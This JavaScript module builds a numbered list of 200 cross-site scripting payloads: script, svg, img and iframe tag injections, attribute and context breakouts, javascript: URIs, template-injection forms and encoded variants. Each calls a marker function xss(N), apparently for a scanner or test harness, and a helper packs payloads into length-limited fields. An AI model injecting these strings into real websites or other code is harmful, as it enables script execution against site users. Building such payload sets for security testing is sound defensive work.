// Texts that run where a text is taken for markup. Each, where § stands, calls xss(N) with a number of its own, so that what runs is known, and
// so is what was shown.

const TAGS = [
  "<script>§</script>",
  "<ScRiPt>§</sCrIpT>",
  "<svg onload=§>",
  "<svg/onload=§>",
  "<img src=x onerror=§>",
  "<img/src/onerror=§>",
  "<iframe srcdoc='<script>parent.§</script>'>",
  "<iframe src=javascript:parent.§>",
  "<details open ontoggle=§>",
  "<video><source onerror=§>",
  "<audio src=x onerror=§>",
  "<input autofocus onfocus=§>",
  "<select autofocus onfocus=§>",
  "<marquee onstart=§>",
  "<object data=javascript:§>",
  "<embed src=javascript:§>",
  "<a href=javascript:§ autofocus tabindex=1 onfocus=§>x</a>",
  "<math><mtext><script>§</script>",
  "<style onload=§></style>",
  "<link rel=stylesheet href=x onerror=§>",
  "<form action=javascript:§><button autofocus onfocus=§>",
  "<meta http-equiv=refresh content='0;url=javascript:§'>",
  "<svg><animate onbegin=§ attributeName=x dur=1s>",
  "<svg><script>§</script>",
  "<body onload=§>",
];

// Out of an attribute, a field, a title, a list, a comment, a script.
const WAYS_OUT = ["", '">', "'>", "</textarea>", "</title>", "</option></select>", "-->"];

// Where a text stands in an attribute, an address, a script, a template, or is read as marked-up text.
const ALONE = [
  '" onfocus=§ autofocus x="',
  "' onfocus=§ autofocus x='",
  '" onmouseover=§ style=position:fixed;inset:0 "',
  "javascript:§",
  "JaVaScRiPt:§",
  "java\tscript:§",
  " javascript:§",
  "data:text/html,<script>§</script>",
  "vbscript:§",
  "//x/<script>§</script>",
  "{{§}}",
  "{{{§}}}",
  "{{#with this}}{{lookup this §}}{{/with}}",
  "${§}",
  "<%= § %>",
  "\\u003cscript\\u003e§\\u003c/script\\u003e",
  "\\x3cscript\\x3e§\\x3c/script\\x3e",
  "&lt;script&gt;§&lt;/script&gt;",
  "&#60;script&#62;§&#60;/script&#62;",
  "%3Cscript%3E§%3C/script%3E",
  "+ADw-script+AD4-§+ADw-/script+AD4-",
  "＜script＞§＜/script＞",
  "</script><script>§//",
  "';§;//",
  '"-§-"',
  "`-§-`",
  "*/§/*",
  "--><script>§</script><!--",
  "<![CDATA[<script>§</script>]]>",
  "<!--[if gte IE 4]><script>§</script><![endif]-->",
  "[x](javascript:§)",
  '![x](x"onerror="§)',
  "<javascript:§>",
  "<http://x/\"onmouseover=\"§>",
  'http://x/"onmouseover="§"',
  "https://x/'onmouseover='§'",
  "**<img src=x onerror=§>**",
  "`<img src=x onerror=§>`",
  "```\n<img src=x onerror=§>\n```",
  "<x onfocus=§ tabindex=1 autofocus>",
  "<<script>§//<</script>",
  "<script\n>§</script\n>",
  "<scr<script>ipt>§</scr</script>ipt>",
  "<svg><style><img src=x onerror=§>",
  "<noscript><p title='</noscript><img src=x onerror=§>'>",
  "<template><script>§</script></template>",
  "<table><td background=javascript:§>",
  "<button formaction=javascript:§ autofocus>",
  "<isindex action=javascript:§ type=submit>",
  "<base href=javascript:§//>",
];

export const COUNT = 200;

// The fifty that stand alone, and as many of the tags, each with one way out and then with the next.
export const PAYLOADS = [...ALONE, ...Array.from({ length: COUNT - ALONE.length }, (_, number) => {
  const round = Math.floor(number / TAGS.length);
  return WAYS_OUT[(round + number) % WAYS_OUT.length] + TAGS[number % TAGS.length];
})].map((text, number) => text.replaceAll("§", `xss(${number})`));

// As many of them as a value takes, from the `number`th on, and the number of the next.
export function filled(limit, number, between) {
  let text = "";
  let next = number;
  do {
    const one = PAYLOADS[next % COUNT];
    const more = text === "" ? one : `${text}${between}${one}`;
    if (more.length > limit) break;
    text = more;
    next += 1;
  } while (next - number < COUNT);
  // One that is too long for such a value is for others.
  return { text, next: Math.max(next, number + 1) };
}
